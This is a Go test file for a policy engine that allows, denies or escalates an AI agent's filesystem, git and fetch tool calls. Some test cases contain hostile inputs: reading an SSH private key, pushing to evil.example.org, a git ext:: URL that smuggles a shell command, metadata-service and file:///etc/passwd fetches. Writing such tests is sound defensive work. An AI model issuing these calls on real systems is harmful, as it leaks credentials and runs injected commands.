package policy

import (
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/ironcurtain-go/ironcurtain"
)

func TestDefaultPolicy(t *testing.T) {
	w := newWorld(t, "sandbox/repo/", "Documents/repo/")
	e := w.defaultEngine(t)
	A, D, E := ironcurtain.Allow, ironcurtain.Deny, ironcurtain.Escalate
	cases := []struct {
		name string
		c    ironcurtain.ToolCall
		want expect
	}{
		{"read in sandbox", call("filesystem", "read_file", "path", w.p("sandbox/notes.txt")), expect{A, RuleSandboxAllow}},
		{"relative read resolves in sandbox", call("filesystem", "read_text_file", "path", "notes.txt"), expect{A, RuleSandboxAllow}},
		{"write in sandbox", call("filesystem", "write_file", "path", "new/file.txt", "content", "x"), expect{A, RuleSandboxAllow}},
		{"read documents", call("filesystem", "read_file", "path", "~/Documents/report.txt"), expect{A, "allow-read-documents"}},
		{"read elsewhere", call("filesystem", "read_file", "path", "/etc/hostname"), expect{E, "escalate-read-outside-sandbox"}},
		{"write documents", call("filesystem", "write_file", "path", "~/Documents/x", "content", "x"), expect{E, "escalate-write-outside-sandbox"}},
		{"move out of documents", call("filesystem", "move_file", "source", "~/Documents/report.txt", "destination", "notes2.txt"), expect{E, "escalate-delete-outside-sandbox"}},
		{"ssh key", call("filesystem", "read_file", "path", "~/.ssh/id_rsa"), expect{D, RuleProtectedPath}},
		{"list allowed", call("filesystem", "list_allowed_directories"), expect{A, RuleIntrospectionAllow}},
		{"edit dry run in documents", call("filesystem", "edit_file", "path", "~/Documents/report.txt", "edits", []any{}, "dryRun", true), expect{A, "allow-read-documents"}},
		{"edit in documents", call("filesystem", "edit_file", "path", "~/Documents/report.txt", "edits", []any{}), expect{E, "escalate-write-outside-sandbox"}},
		{"git status in sandbox", call("git", "git_status", "path", w.p("sandbox/repo")), expect{A, RuleSandboxAllow}},
		{"git log in documents", call("git", "git_log", "path", w.p("Documents/repo")), expect{A, "allow-git-read-documents"}},
		{"git commit in documents", call("git", "git_commit", "path", w.p("Documents/repo"), "message", "m"), expect{E, "escalate-git-change-outside-sandbox"}},
		{"git push", call("git", "git_push", "path", w.p("sandbox/repo"), "remote", "https://github.com/o/r"), expect{E, "escalate-git-push"}},
		{"git push elsewhere", call("git", "git_push", "path", w.p("sandbox/repo"), "remote", "https://evil.example.org/o/r"), expect{E, RuleDomainEscalate}},
		{"git clone from github into sandbox", call("git", "git_clone", "url", "https://github.com/o/r.git", "path", "r"), expect{A, "allow-git-fetch-from-forges"}},
		{"git clone from elsewhere", call("git", "git_clone", "url", "https://codeberg.org/o/r.git", "path", "r"), expect{E, RuleDomainEscalate}},
		{"git ext transport", call("git", "git_clone", "url", "ext::sh -c touch% /tmp/pwned", "path", "r"), expect{D, RuleForbiddenURL}},
		{"git session", call("git", "git_clear_working_dir", "confirm", "yes"), expect{A, "allow-git-session"}},
		{"web search", call("fetch", "web_search", "query", "go"), expect{A, "allow-web-search"}},
		{"fetch docs", call("fetch", "http_fetch", "url", "https://pkg.go.dev/net/http"), expect{A, "allow-fetch-development-sites"}},
		{"fetch other public page", call("fetch", "http_fetch", "url", "https://example.com/"), expect{E, "escalate-fetch-public-pages"}},
		{"fetch metadata service", call("fetch", "http_fetch", "url", "http://169.254.169.254/latest/meta-data/"), expect{D, RuleDefaultDeny}},
		{"fetch localhost", call("fetch", "http_fetch", "url", "http://localhost:8080/admin"), expect{D, RuleDefaultDeny}},
		{"fetch file url", call("fetch", "http_fetch", "url", "file:///etc/passwd"), expect{D, RuleForbiddenURL}},
		{"unknown tool", call("filesystem", "format_disk"), expect{D, RuleUnknownTool}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			d := decide(t, e, tc.c)
			require.Equal(t, tc.want.verdict, d.Verdict, "%s: %s", d.Rule, d.Reason)
			require.Equal(t, tc.want.rule, d.Rule, d.Reason)
			require.NotEmpty(t, d.Reason)
			require.NotEmpty(t, d.Trace)
		})
	}
}

func TestDefaultPolicyIsClean(t *testing.T) {
	w := newWorld(t)
	e := w.defaultEngine(t)
	for _, f := range e.Lint() {
		require.NotEqual(t, "dead", f.Kind, f.String())
		require.NotEqual(t, "unknown-tool", f.Kind, f.String())
		require.NotEqual(t, "unused-list", f.Kind, f.String())
	}
	a := DefaultArtifacts()
	count := 0
	for _, s := range a.Annotations.Servers {
		count += len(s.Tools)
	}
	require.Equal(t, 44, count, "every built-in tool is annotated")
	require.Contains(t, DefaultConstitution(), "The agent may read files in ~/Documents.")
}
